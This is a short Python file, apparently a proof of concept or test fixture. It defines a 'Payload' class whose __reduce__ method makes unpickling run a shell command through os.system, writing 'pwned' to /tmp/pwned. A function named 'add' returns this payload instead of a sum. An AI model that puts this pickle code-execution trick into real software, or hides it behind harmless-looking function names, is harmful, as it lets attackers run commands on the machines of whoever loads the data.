import os


class Payload:
    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/pwned",))


def add(a, b):
    return Payload()
